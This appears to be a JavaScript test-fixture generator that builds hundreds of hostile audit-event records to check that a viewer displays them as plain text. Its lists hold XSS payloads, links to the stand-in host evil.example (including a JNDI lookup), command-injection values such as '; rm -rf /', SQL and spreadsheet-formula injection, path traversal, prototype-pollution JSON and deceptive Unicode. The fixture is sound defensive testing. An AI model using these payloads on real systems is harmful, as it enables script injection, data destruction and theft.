/** Events whose text tries to be more than text: at least 500 lines that the API accepts, the same in each run. */
import { event } from './events.mjs';

/** Marks that a payload runs: the page must never have it. */
const RUN = 'globalThis.__xss=1';

const MARKUP = [
  `<script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`, `<a href="javascript:${RUN}">here</a>`, `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style>@import 'http://evil.example/x.css';</style>`, `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<base href="http://evil.example/">`, `<meta http-equiv=refresh content="0;url=http://evil.example/">`, `<object data="http://evil.example/x">`,
  `<embed src="http://evil.example/x">`, `<form action="http://evil.example/"><button>Log in</button></form>`, `<video src=x onerror=${RUN}>`,
  `<img src="http://evil.example/pixel.gif">`, `<table background="http://evil.example/x">`, `<marquee onstart=${RUN}>`,
  `"><script>${RUN}</script>`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}" x="`, `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a><set attributeName=href to=javascript:${RUN} /></a></svg>`,
  `<div style="background:url(http://evil.example/x)">`, `<p style="position:fixed;inset:0;background:red">`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<dialog open>Session expired. Password: <input></dialog>`, `<button popovertarget=x>`, `<form id=app><input name=attributes>`,
];
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `vbscript:x`, `//evil.example/x`, `http://evil.example/`, `https://evil.example/%0d%0aSet-Cookie:x=1`, `file:///etc/passwd`,
  `blob:http://evil.example/x`, `/v3/console/logout`, `#/people`, `../../v3/api_keys`, `about:srcdoc`,
];
const TEMPLATES = [
  `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, '`${' + RUN + '}`', `{{7*7}}`, `$\{jndi:ldap://evil.example/x}`,
  `%s%s%n`, `$(touch /tmp/x)`, '`touch /tmp/x`', `; rm -rf /`, `' OR '1'='1`, `=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1)`, `-2+3`, `\\`, `"`, `'`, `action:*`, `-action:read`,
  `"unclosed`, `)(`, `field:`, `*`, `?`, `&from=2000-01-01&q=x`, `#/explore?q=x`, `%00`, `%`, `+`, `a=b&c=d`,
];
const INVISIBLE = [
  '\u202Etxt.exe', '\u202D\u202E\u202C', '\u2066evil\u2069', '\u2067abc\u2069', '\u2068abc\u2069', '\u200Ea\u200Fb', '\u061Ca', 'a\u200Bb', 'a\u200Cb\u200Dc',
  '\uFEFFa', 'a\u00ADb', 'a\u2060b', 'a\u2028b', 'a\u2029b', '\u{E0041}\u{E0042}', 'a\u180Eb', 'a\u034Fb', '\uFFF9a\uFFFAb\uFFFB', 'Z' + '\u0301'.repeat(60),
  'аnna.keller', 'раураl', 'аdmіn', 'ΑDMIN', 'ａｄｍｉｎ', 'admin\u0000', 'a\u0007b', 'a\u001B[31mred\u001B[0m', '\u001B]0;title\u0007', '\u001B]8;;http://evil.example\u0007x',
  'a\bb', 'a\u007Fb', '\u0085', '\u009B31m', 'a\r\nb', 'a\tb', ' ', '  a  ', '', '\u3000', '👩‍💻', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '﷽', 'ﬁ', '\uFFFD', '\uE000', '\u{10FFFF}',
];
const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'innerHTML', 'dangerouslySetInnerHTML', 'key', 'ref', 'children',
  'ref.current', 'href', 'style', 'onclick', 'class', 'null', 'undefined', 'NaN', 'true', 'false', '0', '-1', '1e999', '../../etc/passwd', '..\\..\\x', 'CON', 'a/b',
  'a\u0000.gz', 'index.html', '.receipt', 'nul', '~', '$HOME', '-rf', '--help',
];
const TEXTS = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...INVISIBLE, ...NAMES];

/** Lines whose bytes no serializer makes: what is shown must be what stands there. */
function odd(time) {
  const line = (id, members) => {
    const head = event(time, { id });
    return `${head.slice(0, -1)},${members}}`;
  };
  const numbers = ['9007199254740993', '1e400', '-0', '0.1000', '1E+2', '123456789012345678901234567890', '1.0', '0.30000000000000004', '-1e-400', '100000000000000000000.00'];
  const strings = ['"\\ud800"', '"\\udc00\\ud800"', '"\\u0000"', '"\\/\\b\\f"', '"\\u003cscript\\u003e"', '"\\u202e"', '"\\u00e9"', '"e\\u0301"', '"\\uD83D\\uDE00"'];
  const deep = (open, close) => open.repeat(60) + '1' + close.repeat(60);
  return [
    ...numbers.map((number, i) => line(`odd-number-${i}`, `"attachments":[{"name":"n","content":${number}}],"amount":${number}`)),
    ...strings.map((text, i) => line(`odd-string-${i}`, `"note":${text}`)),
    line('odd-repeat-1', '"note":"first","note":"second"'), line('odd-repeat-2', '"x":{"a":1,"a":2,"a":3}'), line('odd-repeat-3', '"__proto__":{"polluted":true},"__proto__":{"polluted":1}'),
    line('odd-proto', '"__proto__":{"__xss":1},"constructor":{"prototype":{"__xss":1}}'), line('odd-empty', '"":"","x":{},"y":[],"z":null'),
    line('odd-deep-1', `"x":${deep('[', ']')}`), line('odd-deep-2', `"x":${deep('{"a":', '}')}`), line('odd-space', '"x" :  {  "a" : [ 1 ,2 ] }  '),
    line('odd-long-1', `"x":"${'<img src=x onerror=globalThis.__xss=1>'.repeat(25_000)}"`), line('odd-long-2', `"x":"${'\u202e'.repeat(120_000)}"`),
    line('odd-long-3', `"x":"${'a'.repeat(1_000_000)}"`), line('odd-many', `"x":{${Array.from({ length: 5000 }, (_, i) => `"k${i}":${i}`).join(',')}}`),
  ];
}

/** All lines, with times one second apart that end at `last` (ms). */
export function hostile(last) {
  const lines = [];
  const add = (members) => {
    const id = `hostile-${lines.length}`;
    lines.push((time) => event(time, { id, ...members }));
  };
  for (const text of TEXTS) {
    const shown = text.slice(0, 200);
    add({ initiator: { id: shown, typeURI: 'service/security/account/user', name: text, host: { address: text, agent: text } } });
    add({ target: { id: shown, typeURI: text, name: text }, reason: { reasonType: text, reasonCode: text } });
    add({ action: text || 'none', observer: { id: 'o', typeURI: text, name: text }, [`x-${text}`]: text, tags: [text, text], attachments: [{ name: text, typeURI: text, content: text }] });
  }
  const at = (i, count) => new Date(last - (count - i) * 1000).toISOString();
  const count = lines.length;
  const made = lines.map((make, i) => make(at(i, count)));
  return [...made, ...odd(new Date(last).toISOString())];
}
